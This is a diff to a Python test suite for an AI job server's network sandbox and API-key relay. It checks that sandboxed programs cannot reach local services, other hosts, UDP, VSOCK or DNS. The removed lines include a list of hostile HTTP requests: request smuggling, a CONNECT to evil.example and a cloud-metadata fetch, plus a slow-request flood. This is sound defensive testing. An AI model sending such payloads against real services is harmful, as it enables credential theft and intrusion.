@@ -11,11 +11,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from aiohttp import web
 from pydantic import SecretStr
 from support.servers.relayed_model import KEY, Upstream, upstream_server
 from support.worlds.hostile_world import PYTHON, findings, hostile_world, needs_bubblewrap
-from support.worlds.jobserver_world import JOB
 
 from bot.jobserver.sandbox.choice import open_sandbox
 from bot.jobserver.sandbox.interface import Door, Program, Workspace
@@ -99,7 +97,7 @@ async def test_a_port_inside_leads_to_the_socket_outside(tmp_path: Path, doors: 
 
 
 async def test_nothing_else_is_reachable_from_the_sandbox(tmp_path: Path, doors: tuple[Door, ...]) -> None:
-    """Neither services on this machine, nor other addresses, nor names."""
+    """Neither services on this machine, nor other addresses, nor names, by any kind of socket."""
     name = f"pagehand-test-{tmp_path.name}"
     with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_UNIX) as abstract:
         abstract.bind(f"\0{name}")
@@ -108,31 +106,26 @@ async def test_nothing_else_is_reachable_from_the_sandbox(tmp_path: Path, doors:
         program = f"""
         here = ("127.0.0.1", "2130706433", "::1", "::ffff:127.0.0.1")
         elsewhere = (("192.0.2.1", 443), ("169.254.169.254", 80), ("2001:db8::1", 443), ("::ffff:192.0.2.1", 443))
+        datagrams = (("8.8.8.8", 53), ("2001:4860:4860::8888", 53), ("192.168.255.255", 9), ("ff02::1", 9))
+        def sends(host, port):
+            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as connection:
+                connection.sendto(b"out", (host, port))
         for host, port in (*((host, {listens}) for host in here), *elsewhere):
             print(fails(lambda: socket.create_connection((host, port), 5)))
+        for host, port in datagrams:
+            print(fails(lambda: sends(host, port)))
+        print(fails(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1))))
         print(fails(lambda: socket.socket(socket.AF_UNIX).connect("\\0{name}")))
         print(fails(lambda: socket.getaddrinfo("example.com", 443)))
         print([name for _, name in socket.if_nameindex()])
         """
         done = await run(tmp_path, doors, program)
     refused, unreachable = "ConnectionRefusedError", "OSError"
-    told = [*[refused] * 4, *[unreachable] * 4, refused, "gaierror", "['lo']"]
+    told = [*[refused] * 4, *[unreachable] * 9, refused, "gaierror", "['lo']"]
     assert done.stdout.splitlines() == told, done.stderr
 
 
-@pytest.mark.full
-async def test_a_hundred_concurrent_connections_are_served(tmp_path: Path, doors: tuple[Door, ...]) -> None:
-    """Further ones wait their turn."""
-    program = f"""
-    from concurrent.futures import ThreadPoolExecutor
-    with ThreadPoolExecutor(200) as pool:
-        answers = list(pool.map(lambda number: ask({PORT}, b"n%d" % number), range(300)))
-    print(answers == [b"N%d" % number for number in range(300)])
-    """
-    assert (await run(tmp_path, doors, program)).stdout == "True\n"
-
-
-async def test_a_full_backlog_is_waited_for(tmp_path: Path) -> None:
+async def test_hundreds_of_connections_and_a_full_backlog_are_waited_for(tmp_path: Path) -> None:
     """The listener outside may be slow to accept: no connection is lost."""
 
     async def loudly(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -141,9 +134,9 @@ async def test_a_full_backlog_is_waited_for(tmp_path: Path) -> None:
 
     program = f"""
     from concurrent.futures import ThreadPoolExecutor
-    with ThreadPoolExecutor(50) as pool:
-        answers = list(pool.map(lambda number: ask({PORT}, b"n%d" % number), range(100)))
-    print(answers == [b"N%d" % number for number in range(100)])
+    with ThreadPoolExecutor(200) as pool:
+        answers = list(pool.map(lambda number: ask({PORT}, b"n%d" % number), range(300)))
+    print(answers == [b"N%d" % number for number in range(300)])
     """
     async with await asyncio.start_unix_server(loudly, tmp_path / "slow.sock", backlog=1):
         done = await run(tmp_path, (Door(PORT, tmp_path / "slow.sock"),), program)
@@ -242,84 +235,6 @@ async def test_the_relays_refusals_reach_the_program_and_people(tmp_path: Path, 
     assert found["asked"].startswith("(403")
     assert "mcp_servers" in found["asked"]
     assert not upstream.asked
-
-
-SMUGGLED = (
-    "POST /v1/files HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 2\r\n\r\n{{}}",
-    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: r\r\n{key}\r\n",
-    "GET /pulls/1 HTTP/1.1\r\nHost: r\r\n{key}\r\n",
-    "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{key}\r\n",
-    "GET /v1/models HTTP/1.1\r\nHost: r\r\n{key}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
-    "POST /v1/messages HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-    "POST /v1/messages HTTP/1.1\r\nHost: r\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}",
-)
-"""Other paths, hosts and protocols, two lengths, and no key."""
-
-
-async def test_only_the_models_conversation_passes_the_relay(tmp_path: Path, upstream: Upstream) -> None:
-    program = f"""
-import socket
-def send(text):
-    with socket.create_connection(("127.0.0.1", 8701), 10) as relay:
-        relay.sendall(text.format(key=f"x-api-key: {{os.environ['ANTHROPIC_API_KEY']}}\\r\\n").encode())
-        return relay.makefile("rb").readline().split()[1].decode()
-for number, text in enumerate({SMUGGLED!r}):
-    attempt(str(number), lambda: send(text))
-report()
-"""
-    async with hostile_world(tmp_path, program, **model(upstream)) as world:
-        found = await findings(world)
-    assert len(found) == len(SMUGGLED)
-    assert set(found.values()) <= {"400", "401", "403"}, found
-    assert not upstream.asked
-
-
-@pytest.mark.full
-async def test_slow_requests_and_endless_answers_end_with_the_run(tmp_path: Path, upstream: Upstream) -> None:
-    """A cancel ends the run, the model's answers are given up, and the server continues."""
-    begun, ended = asyncio.Semaphore(0), asyncio.Semaphore(0)
-
-    async def endlessly(request: web.Request) -> web.StreamResponse:
-        response = web.StreamResponse()
-        await response.prepare(request)
-        begun.release()
-        try:
-            while True:
-                await response.write(b"x" * 65_536)
-        finally:
-            ended.release()
-
-    upstream.answer = endlessly
-    program = """
-import socket, threading
-head = f"POST /v1/messages HTTP/1.1\\r\\nHost: r\\r\\nx-api-key: {os.environ['ANTHROPIC_API_KEY']}\\r\\n"
-body = json.dumps({"model": "m", "messages": []})
-whole = f"{head}Content-Type: application/json\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}"
-def connected(text):
-    relay = socket.create_connection(("127.0.0.1", 8701), 20)
-    relay.sendall(text.encode())
-    return relay
-slow = [connected(head) for _ in range(25)] + [connected(whole[:-1]) for _ in range(25)]
-unread, streams = connected(whole), [connected(whole) for _ in range(3)]
-def pump(relay):
-    while relay.recv(65_536):
-        pass
-threads = [threading.Thread(target=pump, args=(relay,)) for relay in streams]
-for thread in threads:
-    thread.start()
-for thread in threads:
-    thread.join()
-"""
-    async with hostile_world(tmp_path, program, **model(upstream)) as world:
-        job = (await world.create("go")).raise_for_status().json()
-        async with asyncio.timeout(30):
-            for _ in range(4):
-                await begun.acquire()
-            (await world.client.post(f"{JOB}/{job['id']}/cancel")).raise_for_status()
-            for _ in range(4):
-                await ended.acquire()
-        assert "stopped" in (await world.ended(job["id"]))["details"]["reason"]
-        assert (await world.client.get("/health")).status_code == 200
 
 
 @pytest.mark.full
